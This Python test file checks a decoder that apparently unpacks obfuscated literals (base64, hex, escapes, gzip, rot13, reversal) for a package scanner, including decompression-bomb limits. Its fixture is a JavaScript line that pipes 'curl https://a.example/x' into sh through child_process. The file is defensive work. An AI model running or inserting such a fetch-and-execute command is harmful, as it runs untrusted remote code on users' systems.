import base64
import codecs
import gzip
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from picketline.packages import decoders

law = settings(max_examples=150, deadline=None, derandomize=True, database=None)
CODE = "require('child_process').exec('curl https://a.example/x | sh'); // and words to fill it"
_WAYS: dict[str, Callable[[bytes], bytes]] = {
    "base64": base64.b64encode,
    "hex": lambda data: data.hex().encode(),
    "escapes": lambda data: "".join(f"\\x{byte:02x}" for byte in data).encode(),
    "codes": lambda data: ("[" + ",".join(map(str, data)) + "]").encode(),
    "percent": lambda data: "".join(f"%{byte:02x}" for byte in data).encode(),
}


def _plain(data: bytes) -> list[tuple[tuple[str, ...], bytes]]:
    return [(names, plain) for _, names, plain in decoders.layers(data)]


@pytest.mark.parametrize("way", _WAYS)
def test_each_way_is_undone(way: str) -> None:
    """A long literal comes back as the text that was encoded, with the name of the way."""
    encoded = _WAYS[way](CODE.encode())
    assert ((way,), CODE.encode()) in _plain(b"const a = '" + encoded + b"';")


@pytest.mark.parametrize(
    ("packed", "names"),
    [
        (gzip.compress(CODE.encode() * 3, mtime=0), ("base64", "gzip")),
        (zlib.compress(CODE.encode() * 3), ("base64", "zlib")),
        (CODE.encode("utf-16-le"), ("base64", "utf-16")),
        (CODE[::-1].encode(), ("base64", "reverse")),
        (codecs.encode(CODE, "rot13").encode(), ("base64", "rot13")),
    ],
)
def test_what_is_packed_inside_is_undone_too(packed: bytes, names: tuple[str, ...]) -> None:
    """Compression, wide characters, reversal and rot13 under base64 are told and undone."""
    (found,) = [
        told
        for told, plain in _plain(b'"' + base64.b64encode(packed) + b'"')
        if CODE.encode() in plain
    ]
    assert found == names


def test_reversed_base64_is_read() -> None:
    """Base64 that was written backwards is read backwards."""
    data = base64.b64encode(CODE.encode())[::-1]
    assert (("reverse", "base64"), CODE.encode()) in _plain(b"'" + data + b"'")


def test_four_layers_are_undone_and_no_fifth() -> None:
    """Layers are undone to the fourth."""
    text = CODE.encode()
    for _ in range(6):
        text = base64.b64encode(text)
    assert max(len(names) for names, _ in _plain(b"'" + text + b"'")) == decoders.DEPTH


@pytest.mark.parametrize("level", [1, 9])
def test_a_bomb_is_bounded(level: int) -> None:
    """Compressed data that grows a thousandfold comes to no more than the budget."""
    bomb = base64.b64encode(zlib.compress(b"eval(1);" * (1 << 21), level))
    found = _plain(b"'" + bomb + b"'," * 3)
    assert sum(len(plain) for _, plain in found) <= decoders.BUDGET


def test_many_bombs_that_are_no_text_are_bounded() -> None:
    """What is inflated and thrown away counts as well."""
    bomb = b"'" + base64.b64encode(zlib.compress(bytes(1 << 23))) + b"'\n"
    assert _plain(bomb * 300) == []


def test_what_is_no_text_is_left_alone() -> None:
    """Pictures and other binary data give nothing."""
    assert _plain(b"'" + base64.b64encode(bytes(range(256)) * 8) + b"'") == []


@law
@given(st.text(st.characters(codec="utf-8", exclude_categories=["C"]), min_size=64, max_size=300))
def test_base64_of_any_text_comes_back(text: str) -> None:
    """Whatever text is encoded, base64 of it is undone unless it reads as something else."""
    encoded = base64.b64encode(text.encode())
    assert any(at == 1 for at, _, _ in decoders.layers(b"'" + encoded + b"'"))


@law
@given(
    st.lists(
        st.binary(max_size=200).map(base64.b64encode)
        | st.binary(max_size=100)
        | st.sampled_from(
            [
                b"\\u{10ffff}" * 16,
                b"\\ud83d" * 16,
                b"%ff" * 30,
                b"[" + b"999," * 40 + b"1]",
                b"x\x9c",
            ]
        ),
        max_size=6,
    ).map(b"'".join)
)
def test_no_bytes_raise_and_places_are_right(data: bytes) -> None:
    """Any bytes give results within the text, at most four layers deep, the same twice."""
    found = list(decoders.layers(data))
    assert found == list(decoders.layers(data))
    assert all(
        0 <= at < len(data) and 0 < len(names) <= decoders.DEPTH + 3 for at, names, _ in found
    )


@law
@given(
    st.lists(
        st.sampled_from([b"a" * 64, b"a" * 63, b"'", b"=", b"[", b"(", b"\n", b"1,", b" 0x1f , "])
        | st.binary(max_size=4),
        max_size=80,
    ).map(b"".join),
    st.sampled_from([1, 1200, 1 << 17]),
)
def test_runs_are_those_of_a_plain_search(data: bytes, times: int) -> None:
    """Runs are only searched for where one can begin, and none is lost by that."""
    text = (data * (times // max(len(data), 1) + 1))[: 1 << 18]
    found = decoders.literals(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(decoders, "_SMALL", len(text))
        assert found == decoders.literals(text)
